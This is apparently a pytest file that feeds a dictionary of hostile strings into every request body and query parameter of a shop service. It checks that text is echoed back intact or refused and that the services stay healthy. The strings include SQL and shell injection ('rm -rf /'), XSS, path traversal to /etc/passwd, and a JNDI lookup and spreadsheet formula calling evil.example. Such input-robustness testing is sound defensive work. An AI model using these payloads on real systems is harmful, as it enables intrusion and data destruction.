"""Text that breaks programs which paste it together: it comes back as it was, or is refused, on every route that takes text."""

import copy
import itertools
import json
from urllib.parse import quote

import pytest

from harness import contract as contract_module
from harness.client import Client
from harness.server import Server
from harness.shop import Shop

CONTRACT = contract_module.load()

HOSTILE = {
    "SQL": "Robert'); DROP TABLE product; --",
    "SQL that is always true": "' OR '1'='1' /*",
    "SQL of PostgreSQL": "$$; SELECT pg_sleep(9); $$ -- \\' E'\\047",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "templates": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> %{7*7}",
    "paths": "../../../../etc/passwd",
    "shell": "; rm -rf / && $(reboot) `reboot` | cat",
    "formula": "=HYPERLINK(\"http://evil.example\",\"x\")",
    "format": "%s%s%n%x {0} {} \\x00",
    "look-ups": "${jndi:ldap://evil.example/a}",
    "a word of JSON": "null",
    "a name of JavaScript": "__proto__",
    "right to left": "safe\u202egnp.exe",
    "bidirectional isolates": "\u2066a\u2069 \u2067b\u2069",
    "zero width": "tea\u200bpot\u200d\u2060",
    "byte order mark": "\ufeffteapot",
    "composed and not": "\u00e9 e\u0301 \u212b \u00c5",
    "a pile of marks": "Z" + "\u0334\u0351\u0300" * 20,
    "families": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "case that grows": "\u0130\u0131\u00df\ufb03\u1e9e",
    "noncharacters": "a\ufffe\uffff\U0010ffff",
    "private use": "\ue000\U000f0000",
    "control characters": "bell\u0007 escape\u001b[31m",
    "C1 control characters": "next\u0085line \u009b31m",
    "line ends": "one\r\nSet-Cookie: two\u2028three\u2029",
    "zero": "tea\u0000pot",
    "much": "\u9577" * 5000,
    "blanks of other scripts": " \u3000\u00a0 ",
}


@pytest.fixture(scope="module")
def hostile_shop(contract, tmp_path_factory):
    """One of its own: a throttle that all these sign-ins meet is nobody else's."""
    with Server(tmp_path_factory.mktemp("hostile") / "data") as server:
        shop = Shop(contract, server).with_people()
        product = shop.product()
        shop.ids = {"product": product["id"], "order": shop.order(shop.staff, (product, 1))["id"]}
        yield shop


def leaves(value, path=()):
    """Where texts stand in an example."""
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from leaves(inner, (*path, key))
    elif isinstance(value, list):
        for index, inner in enumerate(value):
            yield from leaves(inner, (*path, index))
    elif isinstance(value, str):
        yield path


def with_text(example, path, text):
    body = copy.deepcopy(example)
    place = body
    for step in path[:-1]:
        place = place[step]
    place[path[-1]] = text
    return body


def values_of(data, key):
    """All that stands under a key of this name, however deep."""
    if isinstance(data, dict):
        for name, inner in data.items():
            if name == key:
                yield inner
            yield from values_of(inner, key)
    elif isinstance(data, list):
        for inner in data:
            yield from values_of(inner, key)


def example_of(operation):
    return operation.spec["requestBody"]["content"]["application/json"]["example"]


TEXTS = [
    pytest.param(operation, path, id=f"{operation}-{'.'.join(map(str, path))}")
    for operation in CONTRACT.operations if operation.has_body
    for path in leaves(example_of(operation))
]
_numbers = itertools.count(1)


@pytest.mark.parametrize("operation, path", TEXTS)
def test_text_in_bodies(hostile_shop, operation, path):
    shop = hostile_shop
    target = operation.path.replace("{id}", shop.ids["order"] if "/orders/" in operation.path else shop.ids["product"])
    base = shop.server.addresses["gateway"]
    for name, text in HOSTILE.items():
        # Another client for each, so that what is tried is not refused for its number.
        client = Client(shop.contract, base, shop.admin.token, source=f"127.1.{next(_numbers) // 250 % 250}.{next(_numbers) % 250 + 1}")
        answer = client.request(operation.method, target, raw=json.dumps(with_text(example_of(operation), path, text)).encode())
        assert answer.status < 500, (name, answer)
        if answer.status >= 300 or not isinstance(answer.body, dict):
            continue
        found = [each for each in values_of(answer.body.get("data"), path[-1]) if isinstance(each, str)]
        # Blanks of ASCII around a text are not part of it.
        assert not found or text in found or text.strip(" \t\r\n") in found, (name, answer)


QUERIES = [
    pytest.param(operation, parameter["name"], id=f"{operation}-{parameter['name']}")
    for operation in CONTRACT.operations if operation.method == "GET" and not operation.speaks_web_socket
    for parameter in operation.parameters
    if parameter["in"] in ("query", "path") and "stream" not in operation.path
    and CONTRACT.resolve(parameter["schema"]).get("type") in ("string", "array", None)
]


@pytest.mark.parametrize("operation, parameter", QUERIES)
def test_text_in_addresses(hostile_shop, operation, parameter):
    shop = hostile_shop
    for name, text in HOSTILE.items():
        encoded = quote(text[:900], safe="")
        if "{" + parameter + "}" in operation.path:
            target = operation.path.replace("{" + parameter + "}", encoded)
        else:
            target = f"{operation.path.replace('{id}', shop.ids['product'])}?{parameter}={encoded}"
        answer = shop.admin.client.request("GET", target)
        assert answer.status in (200, 304, 400, 404), (name, answer)


def test_the_shop_is_well_after_all_this(hostile_shop):
    shop = hostile_shop
    shop.order(shop.staff, (shop.product(), 1))
    for front in ("user", "product", "order", "analytics", "gateway", "dashboard"):
        assert shop.client(front).get("/health").data["status"] == "ok"
